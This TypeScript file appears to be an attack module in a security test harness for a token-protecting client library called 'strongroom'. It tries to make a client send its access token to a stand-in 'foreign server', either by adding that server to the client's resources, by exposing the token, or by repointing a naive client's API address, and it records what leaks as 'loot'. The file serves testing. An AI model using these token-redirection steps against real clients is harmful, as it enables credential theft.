// Makes each client anew with a policy of the attacker's: one more server that gets the token.
import { createClient } from "strongroom";
import { type Attack, refusal, type Targets } from "./attack";
import { ForeignServer } from "./foreign-server";
import type { Loot } from "./loot";

export const secondConfiguration: Attack = {
  id: "second-configuration",
  name: "Configure it anew",
  method:
    "A second client with the attacker's server among its resources; another that exposes its access token.",
  async run(targets, loot) {
    const { naive, options, servers } = targets;
    const foreign = await ForeignServer.watch(servers.foreignUrl);
    const withForeign = { ...options, resources: [...options.resources, `${servers.foreignUrl}/`] };
    const withServer = await attempt(withForeign, targets, loot);
    const withExposure = await attempt({ ...options, exposeAccessToken: true }, targets, loot);
    const ofStrongroom = await foreign.take(loot);
    await naive.ready();
    const { apiUrl } = naive;
    naive.apiUrl = servers.foreignUrl;
    try {
      await naive.orders();
    } finally {
      naive.apiUrl = apiUrl;
    }
    return {
      strongroom: `With the server: ${withServer}. Exposing: ${withExposure}. The foreign server got ${ofStrongroom}.`,
      naive: `Its API's address is a property, and was changed. The foreign server got ${await foreign.take(loot)}.`,
    };
  },
};

/** What refuses the attempt, or where it got to. */
async function attempt(options: Targets["options"], { servers }: Targets, loot: Loot): Promise<string> {
  try {
    const evil = await createClient(options);
    try {
      await evil.fetch(`${servers.foreignUrl}/collect`);
      loot.add(await evil.getAccessToken(), "getAccessToken() of a second client");
      return "not refused";
    } catch (error) {
      return `an empty vault of its own (${refusal(error)})`;
    } finally {
      evil.close();
    }
  } catch (error) {
    return `refused (${refusal(error)})`;
  }
}
